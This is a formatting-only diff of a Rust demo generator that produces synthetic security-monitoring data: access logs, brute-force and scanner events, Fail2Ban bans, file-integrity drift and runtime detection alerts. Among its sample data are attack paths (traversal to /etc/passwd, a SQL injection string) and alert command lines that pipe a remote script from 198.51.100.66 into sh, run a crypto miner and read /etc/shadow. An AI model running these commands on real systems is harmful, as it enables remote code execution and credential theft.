@@ -44,9 +44,7 @@ const USER_AGENTS: &[&str] = &[
     "python-requests/2.32.3",
     "okhttp/4.12.0",
 ];
-const USERS: &[&str] = &[
-    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
-];
+const USERS: &[&str] = &["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
 const ATTACK_PATHS: &[&str] = &[
     "/../../../../etc/passwd",
     "/search?q=' OR 1=1--",
@@ -77,12 +75,7 @@ const RUNTIME_RULES: &[(&str, Priority, &str, &str)] = &[
         "A shell was spawned in a container with an attached terminal",
         "container,shell,mitre_execution",
     ),
-    (
-        "Write below etc",
-        Priority::Error,
-        "File below /etc opened for writing",
-        "filesystem,mitre_persistence",
-    ),
+    ("Write below etc", Priority::Error, "File below /etc opened for writing", "filesystem,mitre_persistence"),
     (
         "Read sensitive file untrusted",
         Priority::Warning,
@@ -113,12 +106,7 @@ const RUNTIME_RULES: &[(&str, Priority, &str, &str)] = &[
         "Privileged container started",
         "container,cis,mitre_privilege_escalation",
     ),
-    (
-        "Clear Log Activities",
-        Priority::Warning,
-        "Log files were tampered",
-        "filesystem,mitre_defense_evasion",
-    ),
+    ("Clear Log Activities", Priority::Warning, "Log files were tampered", "filesystem,mitre_defense_evasion"),
     (
         "Detect crypto miners using the Stratum protocol",
         Priority::Critical,
@@ -137,18 +125,8 @@ const RUNTIME_RULES: &[(&str, Priority, &str, &str)] = &[
         "Linux kernel module injection from container detected",
         "process,mitre_privilege_escalation",
     ),
-    (
-        "Unexpected UDP Traffic",
-        Priority::Alert,
-        "Unexpected UDP traffic seen",
-        "network,mitre_exfiltration",
-    ),
-    (
-        "Syscall rate high",
-        Priority::Debug,
-        "Syscall event rate above the sampling threshold",
-        "performance",
-    ),
+    ("Unexpected UDP Traffic", Priority::Alert, "Unexpected UDP traffic seen", "network,mitre_exfiltration"),
+    ("Syscall rate high", Priority::Debug, "Syscall event rate above the sampling threshold", "performance"),
 ];
 
 /// One of the demo's tenants, with its network and clients.
@@ -232,10 +210,7 @@ impl Generator {
     pub fn registry(&self) -> Vec<Write> {
         let mut out = Vec::new();
         for t in &self.tenants {
-            out.push(Write::Tenant {
-                name: t.name.to_string(),
-                label_selector: format!("rampart.tenant={}", t.name),
-            });
+            out.push(Write::Tenant { name: t.name.to_string(), label_selector: format!("rampart.tenant={}", t.name) });
             out.extend(t.containers.iter().cloned().map(Write::Container));
             out.push(Write::IntegrityTarget(Target {
                 name: format!("{}-app", t.name),
@@ -295,26 +270,16 @@ impl Generator {
             97 => 403,
             _ => 500,
         };
-        let method = if path.starts_with("/api") && rng.gen_bool(0.3) {
-            "POST"
-        } else {
-            "GET"
-        };
+        let method = if path.starts_with("/api") && rng.gen_bool(0.3) { "POST" } else { "GET" };
         AccessEvent {
             ts,
             tenant: tenant.name.to_string(),
             src_ip: tenant.clients[rng.gen_range(0..tenant.clients.len())].clone(),
-            user: rng
-                .gen_bool(0.4)
-                .then(|| USERS[rng.gen_range(0..USERS.len())].to_string()),
+            user: rng.gen_bool(0.4).then(|| USERS[rng.gen_range(0..USERS.len())].to_string()),
             method: method.into(),
             path: path.into(),
             status,
-            bytes: if status == 304 {
-                0
-            } else {
-                rng.gen_range(200..48_000)
-            },
+            bytes: if status == 304 { 0 } else { rng.gen_range(200..48_000) },
             user_agent: USER_AGENTS[rng.gen_range(0..USER_AGENTS.len())].into(),
             source: "demo".into(),
             ..Default::default()
@@ -323,11 +288,7 @@ impl Generator {
 
     fn start_brute_force(&mut self) {
         let t = self.tenant();
-        let ip = if self.rng.gen_bool(0.15) {
-            public_ipv6(&mut self.rng)
-        } else {
-            public_ip(&mut self.rng)
-        };
+        let ip = if self.rng.gen_bool(0.15) { public_ipv6(&mut self.rng) } else { public_ip(&mut self.rng) };
         let tenant = self.tenants[t].name.to_string();
         let attempts = self.rng.gen_range(6..14);
         for _ in 0..attempts {
@@ -354,10 +315,7 @@ impl Generator {
         let ip = public_ip(&mut self.rng);
         let ua = SCANNERS[self.rng.gen_range(0..SCANNERS.len())];
         let tenant = self.tenants[t].name.to_string();
-        for path in ATTACK_PATHS
-            .iter()
-            .take(self.rng.gen_range(3..ATTACK_PATHS.len()))
-        {
+        for path in ATTACK_PATHS.iter().take(self.rng.gen_range(3..ATTACK_PATHS.len())) {
             self.pending.push(AccessEvent {
                 tenant: tenant.clone(),
                 src_ip: ip.clone(),
@@ -384,13 +342,9 @@ impl Generator {
                     e.user.as_deref().unwrap_or("-"),
                     crate::ui::format::timestamp(e.ts)
                 ));
-                let done = !self
-                    .pending
-                    .iter()
-                    .any(|p| p.flags & flags::AUTH_FAILURE != 0);
+                let done = !self.pending.iter().any(|p| p.flags & flags::AUTH_FAILURE != 0);
                 if done {
-                    let (ip, tenant, failures, matches) =
-                        (ip.clone(), tenant.clone(), *failures, matches.clone());
+                    let (ip, tenant, failures, matches) = (ip.clone(), tenant.clone(), *failures, matches.clone());
                     self.brute_force = None;
                     out.push(Write::Alert(alert(
                         e.ts,
@@ -418,18 +372,14 @@ impl Generator {
                     }));
                 }
             }
-        } else if e.flags & flags::ATTACK != 0 && !self.pending.iter().any(|p| p.src_ip == e.src_ip)
-        {
+        } else if e.flags & flags::ATTACK != 0 && !self.pending.iter().any(|p| p.src_ip == e.src_ip) {
             out.push(Write::Alert(alert(
                 e.ts,
                 Priority::Warning,
                 "Web attack pattern",
                 &e.tenant,
                 Some(&e.src_ip),
-                format!(
-                    "scanner {} probed {} with attack paths (last: {})",
-                    e.src_ip, e.tenant, e.path
-                ),
+                format!("scanner {} probed {} with attack paths (last: {})", e.src_ip, e.tenant, e.path),
                 "rampart",
                 "web,mitre_initial_access",
             )));
@@ -441,12 +391,7 @@ impl Generator {
         let to = (from + self.rng.gen_range(1..self.tenants.len())) % self.tenants.len();
         let (from_t, to_t) = (&self.tenants[from], &self.tenants[to]);
         let ip = format!("10.{}.0.{}", from_t.subnet, self.rng.gen_range(2..5));
-        let path = [
-            "/internal/admin",
-            "/api/v1/users",
-            "/metrics",
-            "/actuator/env",
-        ][self.rng.gen_range(0..4)];
+        let path = ["/internal/admin", "/api/v1/users", "/metrics", "/actuator/env"][self.rng.gen_range(0..4)];
         out.push(Write::Access(AccessEvent {
             ts,
             tenant: to_t.name.into(),
@@ -467,27 +412,20 @@ impl Generator {
             "Cross-tenant access",
             to_t.name,
             Some(&ip),
-            format!(
-                "{ip} in {}'s network reached {} {path}",
-                from_t.name, to_t.name
-            ),
+            format!("{ip} in {}'s network reached {} {path}", from_t.name, to_t.name),
             "rampart",
             "network,tenancy,mitre_lateral_movement",
         )));
     }
 
     fn runtime_alert(&mut self, ts: i64, out: &mut Vec<Write>) {
-        let (rule, priority, text, tags) =
-            RUNTIME_RULES[self.rng.gen_range(0..RUNTIME_RULES.len())];
+        let (rule, priority, text, tags) = RUNTIME_RULES[self.rng.gen_range(0..RUNTIME_RULES.len())];
         let t = self.rng.gen_range(0..self.tenants.len());
         let tenant = &self.tenants[t];
         let c = &tenant.containers[self.rng.gen_range(0..tenant.containers.len())];
-        let cmdline = [
-            "bash",
-            "sh -c curl http://198.51.100.66/x.sh | sh",
-            "xmrig --donate-level 1",
-            "cat /etc/shadow",
-        ][self.rng.gen_range(0..4)];
+        let cmdline =
+            ["bash", "sh -c curl http://198.51.100.66/x.sh | sh", "xmrig --donate-level 1", "cat /etc/shadow"]
+                [self.rng.gen_range(0..4)];
         let fields = json!({
             "container.id": &c.id[..12],
             "container.name": c.name,
@@ -524,24 +462,26 @@ impl Generator {
     /// A verification run of tenant `t`'s target that finds a few changed files.
     pub fn drift_run(&mut self, ts: i64, t: usize) -> Write {
         let name = self.tenants[t].name;
-        let files = [
-            "bin/app",
-            "etc/app.conf",
-            "lib/libssl.so.3",
-            "static/index.js",
-            "etc/cron.d/backup",
-        ];
+        let files = ["bin/app", "etc/app.conf", "lib/libssl.so.3", "static/index.js", "etc/cron.d/backup"];
         let n = self.rng.gen_range(1..4);
         let changes: Vec<Change> = files
             .iter()
             .take(n)
             .map(|f| {
-                let hash = |rng: &mut StdRng| (0..64).map(|_| char::from_digit(rng.gen_range(0..16), 16).unwrap_or('0')).collect::<String>();
+                let hash = |rng: &mut StdRng| {
+                    (0..64).map(|_| char::from_digit(rng.gen_range(0..16), 16).unwrap_or('0')).collect::<String>()
+                };
                 Change {
                     path: format!("/srv/tenants/{name}/app/{f}"),
                     kind: "modified".into(),
-                    before_json: Some(json!({"sha256": hash(&mut self.rng), "size": 18_432, "mode": "0755", "owner": "0:0"}).to_string()),
-                    after_json: Some(json!({"sha256": hash(&mut self.rng), "size": 18_996, "mode": "0755", "owner": "0:0"}).to_string()),
+                    before_json: Some(
+                        json!({"sha256": hash(&mut self.rng), "size": 18_432, "mode": "0755", "owner": "0:0"})
+                            .to_string(),
+                    ),
+                    after_json: Some(
+                        json!({"sha256": hash(&mut self.rng), "size": 18_996, "mode": "0755", "owner": "0:0"})
+                            .to_string(),
+                    ),
                 }
             })
             .collect();
@@ -576,19 +516,11 @@ impl Generator {
 
     /// An SSH brute-forcer banned by Fail2Ban's sshd jail.
     pub fn ssh_ban(&mut self, ts: i64, permanent: bool) -> Write {
-        let ip = if self.rng.gen_bool(0.2) {
-            public_ipv6(&mut self.rng)
-        } else {
-            public_ip(&mut self.rng)
-        };
+        let ip = if self.rng.gen_bool(0.2) { public_ipv6(&mut self.rng) } else { public_ip(&mut self.rng) };
         let failures = self.rng.gen_range(5..40);
         let matches: Vec<String> = (0..failures.min(5))
             .map(|i| {
-                format!(
-                    "sshd[{}]: Failed password for invalid user admin from {ip} port {} ssh2",
-                    4000 + i,
-                    40_000 + i
-                )
+                format!("sshd[{}]: Failed password for invalid user admin from {ip} port {} ssh2", 4000 + i, 40_000 + i)
             })
             .collect();
         Write::Ban(Ban {
@@ -641,9 +573,5 @@ fn public_ip(rng: &mut StdRng) -> String {
 
 /// An address from the IPv6 documentation range (RFC 3849).
 fn public_ipv6(rng: &mut StdRng) -> String {
-    format!(
-        "2001:db8:{:x}::{:x}",
-        rng.gen_range(1..0xffff),
-        rng.gen_range(1..0xffff)
-    )
+    format!("2001:db8:{:x}::{:x}", rng.gen_range(1..0xffff), rng.gen_range(1..0xffff))
 }
